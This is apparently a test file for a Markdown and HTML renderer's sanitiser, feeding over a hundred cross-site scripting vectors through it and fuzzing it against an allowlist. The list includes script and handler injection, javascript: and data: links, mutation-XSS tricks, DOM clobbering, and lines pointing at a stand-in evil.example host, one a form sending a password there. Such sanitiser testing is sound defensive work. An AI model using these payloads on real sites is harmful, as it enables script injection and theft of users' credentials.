import fc from "fast-check"
import { type DefaultTreeAdapterTypes, parseFragment } from "parse5"
import { describe, expect, test } from "vitest"
import type { Style } from "./rendering.ts"
import { rendered } from "./testing.ts"

/**
 * What attackers write, and what is left of it once a parser that works like that of browsers has read the answer. The rules below say what a text may
 * contain; they share nothing with the list that the renderer works by.
 */

const STYLES: readonly Style[] = ["plain", "document", "wiki", "comment"]

/** Texts. Each is tried in every style, alone and in places that are parsed otherwise. */
const VECTORS: readonly string[] = [
  // Scripts.
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<script\n>alert(1)</script\t>",
  "<script/x>alert(1)</script>",
  "<<script>alert(1);//<</script>",
  "<script>alert(1)",
  "<!--><script>alert(1)</script>-->",
  "<!-- --!><script>alert(1)</script>",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?xml ?><script>alert(1)</script>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&amp;lt;script&amp;gt;alert(1)",
  "&#60;script&#62;alert(1)&#60;/script&#62;",
  "&#x3C;img src=x onerror=alert(1)&#x3E",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<textarea><script>alert(1)</script></textarea>",
  "<title><img src=x onerror=alert(1)></title>",
  "<xmp><script>alert(1)</script></xmp>",
  "<plaintext><script>alert(1)</script>",
  "<template><script>alert(1)</script></template>",
  "<template shadowrootmode=open><script>alert(1)</script></template>",
  // Handlers.
  "<img src=x onerror=alert(1)>",
  "<img src=x onerror\n=\nalert(1)>",
  "<img/src=x/onerror=alert(1)>",
  "<img src=x:x onerror=alert(1)//>",
  "<details open ontoggle=alert(1)>x</details>",
  "<video src=x onloadstart=alert(1) autoplay></video>",
  "<b onmouseover=alert(1)>b</b>",
  "<b ONCLICK=alert(1)>b</b>",
  "<a href=x onclick=alert(1) autofocus onfocus=alert(1) tabindex=1>x</a>",
  "<input type=checkbox autofocus onfocus=alert(1)>",
  "<body onload=alert(1)>",
  "<p style=animation-name:x onanimationstart=alert(1)>x</p>",
  '![x" onerror="alert(1)](x.png)',
  '[x](y "a\\" onclick=\\"alert(1)")',
  '[x](<y" onclick="alert(1)>)',
  "`x` <code class='\" onclick=alert(1)'>y</code>",
  '```js" onclick="alert(1)\nx\n```',
  "```__proto__\nx\n```",
  // Addresses that run.
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java&#115;cript:alert(1))",
  "[x](javascript&colon;alert(1))",
  "[x](&#x6A;avascript:alert(1))",
  "[x](\u0001javascript:alert(1))",
  "[x](<java\tscript:alert(1)>)",
  "[x](\u200bjavascript:alert(1))",
  "[x][y]\n\n[y]: javascript:alert(1)",
  "<javascript:alert(1)>",
  "![x](javascript:alert(1))",
  "<a href=' &#14; javascript:alert(1)'>x</a>",
  "<a href='java\nscript:alert(1)'>x</a>",
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  "<a href=vbscript:msgbox(1)>x</a>",
  "[x](vbscript:msgbox)",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "![x](data:image/svg+xml;base64,PHN2Zz4=)",
  "<img src='data:text/html,<script>alert(1)</script>'>",
  "[x](blob:https://forge.example.com/1)",
  "[x](filesystem:https://forge.example.com/x)",
  "[x](view-source:javascript:alert(1))",
  "[x](file:///etc/passwd)",
  "<img srcset='data:image/svg+xml,x 1x, javascript:alert(1) 2x'>",
  "<picture><source srcset=javascript:alert(1)><img src=x></picture>",
  "<video poster=javascript:alert(1) src=javascript:alert(1)></video>",
  "<a href=x ping=https://evil.example>x</a>",
  "<a href=//x xlink:href=javascript:alert(1)>x</a>",
  "<q cite=javascript:alert(1)>x</q>",
  "<table background=javascript:alert(1)><tr><td background=javascript:alert(1)>x</table>",
  "<img src=x usemap=#m longdesc=javascript:alert(1)><map name=m><area href=javascript:alert(1)></map>",
  "[[javascript:alert(1)]] [[x|javascript:alert(1)]] [[x|javascript://a]]",
  '[[x" onclick=alert(1)|y" onclick=alert(1)]]',
  // Other namespaces, and what is read otherwise the second time.
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
  "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
  "<svg><use href='data:image/svg+xml,<svg id=x />#x'/></svg>",
  "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
  "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  "<select><style><img src=x onerror=alert(1)></style></select>",
  // Frames, forms, and elements that change the page.
  "<iframe src=javascript:alert(1)></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
  "<base href=https://evil.example/>",
  "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<form action=https://evil.example><input name=password type=password><button>go</button></form>",
  "<button formaction=javascript:alert(1)>x</button><input type=image src=x formaction=javascript:alert(1)>",
  "<label for=password>x</label><keygen><portal src=x></portal><dialog open>x</dialog>",
  "<x-element is=x>x</x-element><b is=x-element slot=y part=z>x</b>",
  "<frameset><frame src=javascript:alert(1)></frameset>",
  "<marquee onstart=alert(1)>x</marquee><isindex action=javascript:alert(1)>",
  // Looks.
  "<style>@import 'https://evil.example/x.css'; body { display: none }</style>",
  "<p style='position:fixed;inset:0;background:url(https://evil.example)'>x</p>",
  "<div class='modal button hidden is-active'>x</div>",
  "<font color=red face='x' size=7>x</font>",
  // Names that hide those of the page.
  "<a id=attributes name=body>x</a><img name=forms src=x><p id=location>x</p>",
  "<a name=getElementById href=x>x</a>",
  "# constructor\n\n# __proto__",
  "[^__proto__] [^constructor]\n\n[^__proto__]: a\n[^constructor]: <img src=x onerror=alert(1)>",
  '[^"><img/onerror=alert(1)>]\n\n[^"><img/onerror=alert(1)>]: x',
  // Mentions, emoji and the like.
  "@<img src=x onerror=alert(1)> #1<script>alert(1)</script> :<script>: :constructor: :__proto__:",
  '@a" onclick=alert(1) a/b#1" onclick=alert(1) deadbeef" onclick=alert(1)',
  'https://forge.example.com/a/b/issues/1#"onclick=alert(1) https://x.example/"onclick=alert(1)',
  '<https://forge.example.com/a/b/issues/1#x"onclick=alert(1)>',
  "> [!NOTE]<script>alert(1)</script>\n> <img src=x onerror=alert(1)>",
  "- [ ] <img src=x onerror=alert(1)>\n- [x]<script>alert(1)</script>",
  '| <script>alert(1)</script> | b |\n|:-:" onclick=alert(1)|---|\n| <img src=x onerror=alert(1)> | `</td><script>` |',
  // Formulas, and elements that look as if they were of one.
  "$\\href{javascript:alert(1)}{x}$ $\\url{javascript:alert(1)}$ $\\includegraphics{x}$",
  "$\\class{modal}{x}$ $\\id{main}{x}$ $\\style{position:fixed}{x}$ $\\data{x=y}{z}$",
  "$\\text{<script>alert(1)</script>}$ $<img src=x onerror=alert(1)>$ $\\text{</math><script>alert(1)</script>}$",
  '$\\color{red" onclick="alert(1)}x$ $\\begin{array}{c" onclick="alert(1)}x\\end{array}$',
  "$x$ <math href=x><mi href=javascript:alert(1) onclick=alert(1) style=x class=modal>x</mi><mglyph src=x></math>",
  '$x$ <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '$x$ <math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  "$x$ <mtable><mtr><mtd width=9999em height=-9999em>x</mtd></mtr></mtable><mi data-maths=x>x</mi>",
  "$$\\raisebox{-9999em}{x}\\kern-9999em\\rule{9999em}{9999em}$$",
  "```math\n</code><script>alert(1)</script>\n```",
  // Characters.
  "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
  "<img src=x on\u0000error=alert(1)>",
  "\ufeff<img src=x onerror=alert(1)>\u2028<script>\u2029alert(1)</script>",
  "<\u0131mg src=x onerror=alert(1)><\u017fcript>alert(1)</\u017fcript>",
  "\ud800<img src=x onerror=alert(1)>\udc00",
  "<img src=`x` onerror=`alert(1)`>",
  "</div></main></body></html><script>alert(1)</script>",
  "</td></tr></table></details></section><img src=x onerror=alert(1)>",
]

/** The same text where it is parsed otherwise. */
const PLACES: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `# ${text}`,
  (text) => `a ${text} b`,
  (text) => `- ${text}\n- > ${text}`,
  (text) => `<div title="${text}">\n\n${text}\n\n</div>`,
  (text) => `[${text}](x "${text}") ![${text}](x)`,
]
/** On pages, formulas are MathML. */
const PLACES_ON_PAGES: readonly ((text: string) => string)[] = [
  (text) => `$x^2$ ${text}`,
  (text) => `$\\text{${text}}$ $${text}$\n\n$$\n\\text{${text}}\n$$`,
]

const ELEMENTS = new Set(
  `a abbr b blockquote br caption center code dd del details dfn div dl dt em figcaption figure h1 h2 h3 h4 h5 h6 hr i img input ins kbd li mark ol p picture
   pre q rp rt ruby s samp section small source span strike strong sub summary sup table tbody td tfoot th thead tr tt u ul var video wbr`.split(
    /\s+/,
  ),
)
const MATHML = "http://www.w3.org/1998/Math/MathML"
const MATHML_ELEMENTS = new Set(
  `math menclose mfrac mi mmultiscripts mn mo mover mpadded mphantom mprescripts mroot mrow mspace msqrt mstyle msub msubsup msup mtable mtd mtext mtr
   munder munderover none`.split(/\s+/),
)
const MATHML_ATTRIBUTES = new Set(
  `accent accentunder class columnspan depth display displaystyle fence form height largeop linethickness lspace mathbackground mathcolor mathvariant maxsize
   minsize movablelimits notation rowspan rspace scriptlevel separator stretchy symmetric voffset width`.split(/\s+/),
)
const ATTRIBUTES = new Set(
  `align alt aria-label checked class colspan controls dir disabled height href id lang loading media muted open rel reversed rowspan scope src srcset start
   title type valign value width`.split(/\s+/),
)
const CLASS =
  /^(attention-\w+|contains-task-list|task-list-item|footnotes|footnote-(ref|backref)|emoji|mention|elsewhere|ref-\w+|language-[\w+#.-]+|[a-z]{2})$/

/** What is wrong with the HTML, as a browser would read it; nothing is, in every answer. */
function faultsIn(html: string): readonly string[] {
  const faults: string[] = []
  const visit = (node: DefaultTreeAdapterTypes.Node): void => {
    if (node.nodeName === "#comment") faults.push("a comment")
    if ("tagName" in node) {
      const isMaths = node.namespaceURI === MATHML
      if (!(isMaths ? MATHML_ELEMENTS : ELEMENTS).has(node.tagName)) faults.push(`<${node.tagName}>`)
      if (!isMaths && node.namespaceURI !== "http://www.w3.org/1999/xhtml") faults.push(`an element of ${node.namespaceURI}`)
      if (isMaths)
        faults.push(
          ...node.attrs.filter(({ name, value }) => !isOfMaths(name, value)).map(({ name, value }) => `${node.tagName} ${name}=${value}`),
        )
      else for (const { name, value } of node.attrs) faults.push(...faultsOf(node.tagName, name, value))
    }
    if ("childNodes" in node) node.childNodes.forEach(visit)
  }
  visit(parseFragment(html))
  return faults
}

const isOfMaths = (name: string, value: string): boolean =>
  MATHML_ATTRIBUTES.has(name) && (name === "class" || (/^[\w .%+#-]{1,60}$/.test(value) && !/(?<![#.\w])-?\d{4}|:/.test(value)))

function faultsOf(tag: string, name: string, value: string): readonly string[] {
  const fault = [`${tag} ${name}=${value}`]
  // The label of a box is the text beside it, and its name is ours: see tasks.ts.
  if (tag === "input" && name === "data-task") return /^[\w.-]+$/.test(value) ? [] : fault
  if (!ATTRIBUTES.has(name)) return fault
  if (name === "id") return value.startsWith("user-content-") ? [] : fault
  if (name === "class") return value.split(" ").every((each) => CLASS.test(each)) ? [] : fault
  if (tag === "input" && name === "type") return value === "checkbox" ? [] : fault
  if (name === "href" || name === "src") return runs(value) ? fault : []
  return name === "srcset" && value.split(",").some((each) => runs(each.trim().split(" ")[0] ?? "")) ? fault : []
}

/** Whether the address is anything but a page of a server, as the browser's own parser of addresses reads it. */
const runs = (address: string): boolean =>
  !/^(https?|mailto):$/.test(URL.parse(address, "https://forge.example.com/ann/box")?.protocol ?? "x:")

describe.each(STYLES)("nothing that attackers write is left in texts of the style %s", (style) => {
  test.each(VECTORS)("%j", async (vector) => {
    for (const place of [...PLACES, ...PLACES_ON_PAGES]) {
      const text = place(vector)
      const isForPage = PLACES_ON_PAGES.includes(place)
      const resolve = async (mentions: readonly unknown[]) => mentions.map(() => ({ href: "https://forge.example.com/x", title: vector }))
      const html = await rendered(text, { style, resolve, isForPage })
      expect(faultsIn(html), `${text}\n→ ${html}`).toEqual([])
      // Read and written again it stays the same for the reader of the page: what follows it is not swallowed.
      expect(textAfter(html), `${text}\n→ ${html}`).toBe("the end")
    }
  })
})

/** Pieces of HTML and Markdown that mean something together. */
const PIECES = [
  ..."< > </ /> \" ' ` = & ; # ! [ ] ( ) * ** _ ~ ~~ | : @ ^ \\ \n \n\n - > a b 1 %".split(" "),
  ..."<a <b> </b> <p> </p> <div> </div> <table> <tr> <td> </table> <details> <li> <img <input <br> <!-- --> <![CDATA[ <? <svg> <math> <style> </style>".split(
    " ",
  ),
  ..."<script> </script> <title> <textarea> <select> <option> <template> <iframe <form> <h1> <picture> <source <video <q> <ruby> <rt> <dl> <dt>".split(
    " ",
  ),
  ...[
    " href=",
    " src=",
    " onerror=x",
    " id=x",
    " class=y",
    " style=z",
    "javascript:x",
    "data:x",
    "https://a.example/",
    " type=checkbox",
    " srcset=",
  ],
  ...[
    "[^1]",
    "[^1]: ",
    "[a](",
    "![",
    "[[",
    "]]",
    "```",
    "    ",
    "- [ ] ",
    "> [!NOTE]\n",
    "| a |\n|---|\n",
    "@ann",
    "#1",
    ":tea:",
    "&lt;",
    "&#106;",
    "$",
    "$$",
    "$x$",
    "\\text{",
    "\\href{",
    "}",
    "<mi ",
    "<mtext>",
    "<annotation-xml>",
    " data-maths=x",
    "\t",
    " ",
  ],
]

test("nor in anything that is put together of pieces", async () => {
  const texts = fc.array(fc.constantFrom(...PIECES), { minLength: 2, maxLength: 30 }).map((pieces) => pieces.join(""))
  await fc.assert(
    fc.asyncProperty(texts, fc.constantFrom(...STYLES), fc.boolean(), async (text, style, isForPage) => {
      const html = await rendered(text, { style, isForPage })
      expect(faultsIn(html), html).toEqual([])
      expect(textAfter(html), html).toBe("the end")
    }),
    { numRuns: 3000 },
  )
})

/** The text of a paragraph that stands after the HTML in its box. */
function textAfter(html: string): string | undefined {
  const page = parseFragment(`<main>${html}</main><p>the end</p>`)
  const last = page.childNodes.at(-1)
  const [text] = last && "childNodes" in last ? last.childNodes : []
  return last?.nodeName === "p" && page.childNodes.length === 2 && text && "value" in text ? text.value : undefined
}

test("the rules above find what they are about", () => {
  for (const [html, fault] of [
    ["<script>x</script>", "<script>"],
    ["<b onclick=x>x</b>", "b onclick=x"],
    ["<a href=' java\nscript:x'>x</a>", "a href= java\nscript:x"],
    ["<img srcset='x 1x, data:x 2x'>", "img srcset=x 1x, data:x 2x"],
    ["<p id=x class=modal style=x>x</p>", "p id=x,p class=modal,p style=x"],
    ["<svg></svg>", "<svg>,an element of http://www.w3.org/2000/svg"],
    ["<input type=image>", "input type=image"],
    ["<math><mi href=x onclick=y width=9999em>x</mi><mglyph></math>", "mi href=x,mi onclick=y,mi width=9999em,<mglyph>"],
  ] as const)
    expect(faultsIn(html).join(",")).toBe(fault)
  expect(textAfter("<b>x</div></main>")).toBeUndefined()
  expect(VECTORS.length).toBeGreaterThan(100)
})

test("what is allowed in HTML stays", async () => {
  const html =
    '<details open><summary>More</summary><p align="center"><kbd>Ctrl</kbd> <sub>2</sub> <img src="a.png" alt="A" width="10%" onerror="x"></p></details>'
  expect(await rendered(html)).toBe(
    '<details open><summary>More</summary><p dir="auto" align="center"><kbd>Ctrl</kbd> <sub>2</sub> ' +
      '<img src="https://forge.example.com/ann/box/media/branch/main/docs/a.png" alt="A" width="10%" loading="lazy" /></p></details>',
  )
})

test("the word is shown of a tag that would swallow what follows", async () => {
  expect(await rendered("Use <script>, <!-- no --> and `<style>`.\n\n<style>\nb {}\n</style>\n\nAfter.")).toBe(
    '<p dir="auto">Use &lt;script&gt;,  and <code>&lt;style&gt;</code>.</p>\n&lt;style&gt;\nb {}\n&lt;/style&gt;\n<p dir="auto">After.</p>',
  )
})
